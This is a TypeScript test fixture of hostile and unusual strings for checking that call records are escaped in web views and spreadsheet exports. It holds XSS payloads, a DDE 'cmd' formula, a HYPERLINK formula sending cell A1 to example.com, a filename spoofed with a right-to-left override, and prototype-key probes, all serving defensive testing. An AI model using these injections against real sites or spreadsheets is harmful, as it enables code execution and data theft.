import type { Call } from '../calls/call.ts'

const LONG = 'A thousand characters: '.padEnd(1000, 'äöü中文 ')

/** Texts that break what does not escape, quote, isolate, wrap or defuse them. */
export const MARKUP_CHANGES: readonly Partial<Call>[] = [
  {
    agent: '<img src=x onerror="document.title=\'broken\'">',
    calledInfo: '<script>document.title="broken"</script>',
    labels: ['<b>bold</b>', '&amp;', '</td></tr>'],
    remark: '<a href="javascript:document.title=1">here</a> {{1+1}} %s %00',
  },
  {
    agent: 'Comma, "Quote" & Sons',
    calledInfo: 'first line\nsecond line\r\nthird; with "quotes", commas\tand a tab',
    labels: ['a,b', 'c"d', "e'f", 'g;h'],
    remark: '"',
  },
  {
    agent: 'ليلى الحسن',
    calledInfo: 'الطلب رقم 48213 (عاجل)',
    labels: ['مهتم', 'מעוניין'],
    remark: 'שלום, ABC 123',
  },
  {
    agent: 'abc\u202Etxt.exe',
    calledInfo: 'zero\u200Bwidth \u2066isolate\u2069',
    labels: ['\u200F'],
  },
  {
    agent: '🎧 👩🏽‍💼 Zoë',
    calledInfo: '👍🏿🇮🇳👨‍👩‍👧‍👦',
    labels: ['🔥', '⭐️⭐️⭐️'],
    remark: '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  },
  { agent: LONG, calledInfo: LONG, labels: [LONG], remark: LONG },
  { agent: 'x'.repeat(1000), calledInfo: 'w'.repeat(1000), labels: ['y'.repeat(300)] },
  { agent: '=HYPERLINK("http://example.com/?"&A1,"open")', calledInfo: "=cmd|' /C calc'!A0" },
  { agent: '+1', calledInfo: '-1', labels: ['@SUM(A1:A9)', '=1+1'], remark: '+1-800-555-0100' },
  { agent: '\t=1+1', calledInfo: '\r=1+1', labels: ['\n=1+1', ' =1+1'], remark: '\t\t' },
  { agent: '＝1+1', calledInfo: '＋1', labels: ['－1', '＠SUM(A1)'], remark: '|calc' },
  {
    agent: '__proto__',
    calledInfo: 'constructor',
    labels: ['toString', 'null', 'undefined'],
    remark: 'NaN',
  },
]
